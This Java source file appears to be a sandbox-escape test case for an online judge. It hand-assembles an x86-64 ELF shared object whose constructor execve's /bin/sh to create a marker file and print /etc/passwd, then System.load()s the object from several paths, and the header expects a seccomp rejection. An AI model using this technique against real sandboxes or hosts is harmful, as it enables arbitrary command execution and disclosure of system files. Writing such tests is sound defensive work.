// attack: native code from Java without a compiler: the program writes a
//   minimal x86-64 ELF shared object into the box (no symbols, only a DT_INIT
//   constructor) and System.load()s it. The dynamic loader runs the
//   constructor inside the JVM: raw syscalls execve("/bin/sh", ["sh", "-c",
//   "..."]) of a shell that touches /tmp/judge-attack-pwned and prints the
//   host's /etc/passwd. The seccomp filter must stop the execve (SV); if the
//   call returns, the constructor says so on stderr and exits 42 (RE).
// verdicts: SV
import java.io.ByteArrayOutputStream;
import java.io.File;
import java.io.FileOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
public class JniLoadShell {
  // A byte buffer with little-endian writers and RIP-relative fix-ups.
  static final class Image {
    final ByteArrayOutputStream out = new ByteArrayOutputStream();
    final Map<String, Integer> labels = new HashMap<>();
    final List<Object[]> fixups = new ArrayList<>();  // {position, label}: rel32 from position + 4
    int pos() { return out.size(); }
    void u8(int... bytes) { for (int b : bytes) out.write(b); }
    void u16(int v) { u8(v & 0xff, (v >> 8) & 0xff); }
    void u32(long v) { for (int i = 0; i < 4; i++) out.write((int) (v >> (8 * i)) & 0xff); }
    void u64(long v) { for (int i = 0; i < 8; i++) out.write((int) (v >> (8 * i)) & 0xff); }
    void label(String name) { labels.put(name, pos()); }
    void rel32(String label) { fixups.add(new Object[] {pos(), label}); u32(0); }
    void ascii(String s) { u8(0); out.writeBytes(s.getBytes(StandardCharsets.US_ASCII)); out.write(0); }
    void asciiNoLead(String s) { out.writeBytes(s.getBytes(StandardCharsets.US_ASCII)); out.write(0); }
    void pad(int to) { while (pos() < to) out.write(0); }
    byte[] bytes() {
      byte[] b = out.toByteArray();
      for (Object[] f : fixups) {
        int at = (Integer) f[0];
        int rel = labels.get((String) f[1]) - (at + 4);
        for (int i = 0; i < 4; i++) b[at + i] = (byte) (rel >> (8 * i));
      }
      return b;
    }
  }

  static byte[] sharedObject() {
    final int phdrs = 3, ehdrSize = 64, phdrSize = 56;
    final int dynamic = ehdrSize + phdrs * phdrSize;  // 0xe8
    final int dynEntries = 6;
    final int strtab = dynamic + dynEntries * 16;
    final int symtab = strtab + 8;
    final int code = symtab + 24;
    Image m = new Image();
    // ELF header
    m.u8(0x7f, 'E', 'L', 'F', 2, 1, 1, 0);  // 64-bit, little-endian, version 1, System V
    m.u64(0);                                // ABI version and padding
    m.u16(3);                                // ET_DYN
    m.u16(62);                               // EM_X86_64
    m.u32(1);                                // EV_CURRENT
    m.u64(code);                             // e_entry (unused by dlopen)
    m.u64(ehdrSize);                         // e_phoff
    m.u64(0);                                // e_shoff: no sections
    m.u32(0);                                // e_flags
    m.u16(ehdrSize);
    m.u16(phdrSize);
    m.u16(phdrs);
    m.u16(64);                               // e_shentsize
    m.u16(0);                                // e_shnum
    m.u16(0);                                // e_shstrndx
    int sizeAt = -1;
    // PT_LOAD: the whole file, read/write/execute
    m.u32(1); m.u32(7); m.u64(0); m.u64(0); m.u64(0);
    sizeAt = m.pos();
    m.u64(0); m.u64(0);                      // p_filesz, p_memsz: patched below
    m.u64(0x1000);
    // PT_DYNAMIC
    m.u32(2); m.u32(6); m.u64(dynamic); m.u64(dynamic); m.u64(dynamic);
    m.u64(dynEntries * 16); m.u64(dynEntries * 16); m.u64(8);
    // PT_GNU_STACK: no executable stack wanted
    m.u32(0x6474e551); m.u32(6); m.u64(0); m.u64(0); m.u64(0); m.u64(0); m.u64(0); m.u64(16);
    // dynamic section
    m.pad(dynamic);
    m.u64(12); m.u64(code);    // DT_INIT
    m.u64(5);  m.u64(strtab);  // DT_STRTAB
    m.u64(6);  m.u64(symtab);  // DT_SYMTAB
    m.u64(10); m.u64(1);       // DT_STRSZ
    m.u64(11); m.u64(24);      // DT_SYMENT
    m.u64(0);  m.u64(0);       // DT_NULL
    m.pad(symtab + 24);        // an empty string table and the null symbol
    // the constructor
    m.u8(0x48, 0x8d, 0x3d); m.rel32("sh");      // lea rdi, [rip+sh]
    m.u8(0x48, 0x8d, 0x35); m.rel32("dashc");   // lea rsi, [rip+dashc]
    m.u8(0x48, 0x8d, 0x15); m.rel32("cmd");     // lea rdx, [rip+cmd]
    m.u8(0x31, 0xc0);                           // xor eax, eax
    m.u8(0x50, 0x52, 0x56, 0x57);               // push rax (NULL), rdx, rsi, rdi: argv
    m.u8(0x48, 0x89, 0xe6);                     // mov rsi, rsp
    m.u8(0x31, 0xd2);                           // xor edx, edx: envp = NULL
    m.u8(0xb8); m.u32(59);                      // mov eax, SYS_execve
    m.u8(0x0f, 0x05);                           // syscall
    m.u8(0xbf); m.u32(2);                       // mov edi, 2
    m.u8(0x48, 0x8d, 0x35); m.rel32("msg");     // lea rsi, [rip+msg]
    String msg = "jni_load_shell: execve returned inside the JVM\n";
    m.u8(0xba); m.u32(msg.length());            // mov edx, len
    m.u8(0xb8); m.u32(1);                       // mov eax, SYS_write
    m.u8(0x0f, 0x05);                           // syscall
    m.u8(0xbf); m.u32(42);                      // mov edi, 42
    m.u8(0xb8); m.u32(231);                     // mov eax, SYS_exit_group
    m.u8(0x0f, 0x05);                           // syscall
    m.label("sh"); m.asciiNoLead("/bin/sh");
    m.label("dashc"); m.asciiNoLead("-c");
    m.label("cmd"); m.asciiNoLead("touch /tmp/judge-attack-pwned; cat /etc/passwd >&2; echo 0; exit 42");
    m.label("msg"); m.asciiNoLead(msg);
    byte[] b = m.bytes();
    for (int field = 0; field < 2; field++)
      for (int i = 0; i < 8; i++) b[sizeAt + 8 * field + i] = (byte) ((long) b.length >> (8 * i));
    return b;
  }

  public static void main(String[] args) throws Exception {
    byte[] so = sharedObject();
    String[] places = {"libjudgeattack.so", "/tmp/libjudgeattack.so", "/dev/shm/libjudgeattack.so"};
    for (String place : places) {
      File file = new File(place).getAbsoluteFile();
      try (FileOutputStream out = new FileOutputStream(file)) {
        out.write(so);
      } catch (Exception e) {
        System.err.println("jni_load_shell: cannot write " + file + ": " + e);
        continue;
      }
      try {
        System.load(file.getPath());
        System.err.println("jni_load_shell: loaded " + file + ", its constructor did not stop the JVM");
      } catch (UnsatisfiedLinkError e) {
        System.err.println("jni_load_shell: " + e);
      }
    }
    System.out.println(0);
    System.exit(3);
  }
}
